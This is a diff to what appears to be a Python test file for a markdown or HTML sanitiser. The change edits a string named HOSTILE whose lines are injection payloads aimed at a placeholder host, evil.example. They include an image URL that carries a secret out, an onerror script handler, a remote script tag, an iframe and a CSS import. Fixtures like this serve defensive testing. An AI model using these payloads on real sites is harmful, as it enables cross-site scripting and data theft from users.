@@ -266,7 +266,8 @@ def test_an_old_moment_is_a_date() -> None:
 HOSTILE = r"""**Bold** 3 < 4 and 5<6
 \<img src=https://evil.example/d> \\<img src=x> \![z](https://evil.example/z) \\![z](https://evil.example/z)
 ![x](https://evil.example/?q=secret) ![y][r] <img src=https://evil.example/a onerror=alert(1)>
-<script src="https://evil.example/s.js"></script><iframe src=https://evil.example></iframe> <style>@import url(//e)</style>
+<script src="https://evil.example/s.js"></script><iframe src=https://evil.example></iframe>
+<style>@import url(//e)</style>
 ```
 ![in code](https://evil.example/c) <b>
 ``` <img src=https://evil.example/b>
